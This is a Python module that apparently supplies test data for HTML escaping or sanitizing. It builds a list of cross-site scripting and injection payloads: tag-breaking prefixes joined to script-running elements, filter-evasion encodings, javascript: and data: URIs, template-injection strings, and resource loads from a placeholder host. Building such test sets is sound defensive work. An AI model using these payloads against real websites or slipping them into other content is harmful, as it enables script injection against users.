"""Strings that run a script, or load or send something, where a page takes them for more than text."""

import itertools

BREAKS = (
    *("", '">', "'>", "</script>", "</style>", "</title>", "</textarea></pre>", "-->", "]]>"),
    *("</svg></math>", "</td></tr></table>", "\\"),
)
"""Ends of what a name may be written into."""
RUNS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<object data=javascript:alert(1)></object>", "<body onpageshow=alert(1)>",
    "<math><mtext></mtext><mglyph><img src onerror=alert(1)></mglyph></math>",
)  # fmt: skip
ALONE = """
<ScRiPt>alert(1)</sCrIpT>
<script/x>alert(1)</script/x>
<script src=http://example.invalid/x.js></script>
<script type=module>import('http://example.invalid/x.js')</script>
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img/src/onerror=alert(1)>
<img src=http://example.invalid/x.png>
<img srcset=http://example.invalid/x.png>
<img src="x"onerror="alert(1)">
<img src=`x`onerror=alert(1)>
<image href=x onerror=alert(1)>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"></use></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<svg><a href=javascript:alert(1)><text y=20>click</text></a></svg>
<style>@import url(http://example.invalid/x.css);</style>
<style>*{background:url(http://example.invalid/x)}</style>
<link rel=stylesheet href=http://example.invalid/x.css>
<link rel=preload as=script href=http://example.invalid/x.js>
<meta http-equiv=refresh content="0;url=http://example.invalid/">
<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'">
<base href=http://example.invalid/>
<form action=http://example.invalid/><button autofocus>go</button></form>
<form id=planted><input name=attributes><input name=innerHTML></form>
<a id=planted name=getElementById href=javascript:alert(1)>x</a>
<button formaction=javascript:alert(1)>x</button>
<embed src=javascript:alert(1)>
<audio src=x onerror=alert(1)></audio>
<video poster=javascript:alert(1)></video>
<marquee onstart=alert(1)>x</marquee>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<div onpointerover=alert(1) style=position:fixed;inset:0>x</div>
<div popover id=planted onbeforetoggle=alert(1)>x</div>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<template shadowrootmode=open><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<table background=http://example.invalid/x.png>
<frameset onload=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<xml id=planted><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></xml>
<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>
<!--[if IE]><script>alert(1)</script><![endif]-->
<!DOCTYPE html><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
" onmouseover="alert(1)" x="
' onmouseover='alert(1)' x='
" autofocus onfocus="alert(1)
" style="background:url(http://example.invalid/x)
` onerror=alert(1) `
javascript:alert(1)
JaVaScRiPt:alert(1)
java\tscript:alert(1)
 javascript:alert(1)
javascript&colon;alert(1)
javascript://%0aalert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:msgbox(1)
blob:http://example.invalid/x
//example.invalid/x.js
\\\\example.invalid\\x
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3C;img src=x onerror=alert(1)&#x3E;
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
\\x3cimg src=x onerror=alert(1)\\x3e
%3Cscript%3Ealert(1)%3C/script%3E
\uff1cscript\uff1ealert(1)\uff1c/script\uff1e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
"};alert(1);//
';alert(1);//
`;alert(1);//
"-alert(1)-"
'-alert(1)-'
${alert(1)}
#{alert(1)}
{{constructor.constructor('alert(1)')()}}
{{7*7}}[[alert(1)]]
<%= alert(1) %>
*/alert(1)/*
//\u2028alert(1)
[x](javascript:alert(1))
![x](http://example.invalid/x.png)
<javascript:alert(1)>
[x]: javascript:alert(1)
`<img src=x onerror=alert(1)>`
expression(alert(1))
url(javascript:alert(1))
;}body{background:url(http://example.invalid/x)}
__proto__
constructor
toString
hasOwnProperty
onload
onerror
srcdoc
innerHTML
"""
SCRIPTS = tuple(
    dict.fromkeys(
        [*(end + run for end, run in itertools.product(BREAKS, RUNS)), *ALONE.strip("\n").split("\n")]
    )
)
